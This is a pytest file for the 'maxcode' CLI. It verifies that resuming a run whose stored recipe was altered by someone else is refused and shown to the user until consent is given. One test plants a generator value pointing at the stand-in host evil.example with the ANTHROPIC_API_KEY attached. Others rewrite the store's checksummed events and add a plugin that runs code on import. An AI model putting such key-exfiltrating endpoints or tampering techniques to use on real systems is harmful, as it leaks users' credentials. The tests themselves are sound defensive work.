"""Runs that somebody else wrote, or changed: what is shown, what is asked, what is never done."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import pytest
from tests.cli.conftest import Run

from maxcode.journal.journal import link

BEGIN = ("optimize", "landscape:size=8", "--generator", "landscape", "--store", "runs.db")
MORE = ("resume", "last", "--store", "runs.db", "--budget", "evaluations=4")
PLUGIN = """\
from pathlib import Path

from maxcode.policies.best_of_n import BestOfN

Path("imported").touch()


class Policy(BestOfN):
    pass
"""


@pytest.fixture
def begun(inside: Run, folder: Path) -> Path:
    """A store with a run of this user's."""
    inside(*BEGIN, "--budget", "evaluations=2", "--minimise", "0", "--out", "own.txt", code=(0, 1))
    return folder / "runs.db"


def _rewrite(store: Path, changed: int, change: Callable[[dict[str, Any]], None]) -> None:
    """Change an event, as somebody would who can write the store and add up checksums."""
    with sqlite3.connect(store) as database:
        rows = database.execute(
            "SELECT run, seq, at, elapsed, body FROM maxcode_events ORDER BY seq"
        ).fetchall()
        chain = ""
        for run, seq, at, elapsed, body in rows:
            event = json.loads(body)
            if seq == changed:
                change(event)
            written = json.dumps(event)
            chain = link(chain, run, seq, at, elapsed, written)
            update = "UPDATE maxcode_events SET body = ?, chain = ? WHERE seq = ?"
            database.execute(update, (written, chain, seq))
    database.close()


def _with_recipe(store: Path, **changes: object) -> None:
    _rewrite(store, 0, lambda event: event["options"]["recipe"].update(changes))


def _refused(done: CompletedProcess[str]) -> str:
    assert done.returncode == 2, done.stdout
    assert "is not known as yours" in done.stderr
    return " ".join(done.stderr.split())


@pytest.mark.slow
def test_a_run_of_ones_own_is_gone_on_with_unasked(inside: Run, begun: Path) -> None:
    done = inside(*MORE, code=(0, 1))
    assert "is not known as yours" not in done.stderr
    inside(*MORE[:-1], "evaluations=6", "--context", "9000", code=(0, 1))


@pytest.mark.slow
def test_what_another_recipe_names_is_shown_and_nothing_is_written(
    inside: Run, begun: Path, folder: Path
) -> None:
    precious = folder / "precious"
    precious.write_text("mine")
    model = "openai:m@http://evil.example/v1,key=ANTHROPIC_API_KEY + landscape"
    _with_recipe(begun, out=str(precious), log=[f"tensorboard:{folder}/board"], sandbox="process")
    inside("resume last --store runs.db", code=(0, 1))
    _with_recipe(begun, generator=model)
    shown = _refused(inside(*MORE, ANTHROPIC_API_KEY="sk-0123456789"))
    assert "http://evil.example/v1,key=ANTHROPIC_API_KEY" in shown
    assert f"not followed out={precious}" in shown
    assert "budget evaluations=4" in shown  # what is in force if it is confirmed
    _with_recipe(begun, generator="landscape")
    inside(*MORE, "--trust", code=(0, 1))
    assert precious.read_text() == "mine"
    assert not (folder / "board").exists()
    inside(*MORE[:-1], "evaluations=6", code=(0, 1))
    assert precious.read_text() == "mine"


@pytest.mark.slow
def test_a_module_is_imported_only_after_consent(inside: Run, begun: Path, folder: Path) -> None:
    (folder / "policies_of_others.py").write_text(PLUGIN)
    _with_recipe(begun, policy="policies_of_others:Policy,n=4")
    assert "policies_of_others:Policy" in _refused(inside(*MORE))
    assert not (folder / "imported").exists()
    inside(*MORE, "--trust", code=(0, 1))
    assert (folder / "imported").exists()


@pytest.mark.slow
def test_a_larger_budget_is_noticed(inside: Run, begun: Path) -> None:
    with sqlite3.connect(begun) as database:  # as if it had been killed
        database.execute("DELETE FROM maxcode_events WHERE body LIKE '%\"stopped\"%'")
    database.close()
    _rewrite(begun, 1, lambda event: event["budget"].update(evaluations=2000))
    assert "budget evaluations=2000" in _refused(inside("resume last --store runs.db"))


@pytest.mark.slow
def test_another_user_is_asked(
    inside: Run, begun: Path, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = folder / "data" / "maxcode" / "recipe.key"
    assert key.stat().st_mode & 0o777 == 0o600
    monkeypatch.setenv("XDG_DATA_HOME", str(folder / "another"))
    assert "generator landscape" in _refused(inside(*MORE))
    _with_recipe(begun, seal="")
    assert "generator landscape" in _refused(inside(*MORE))
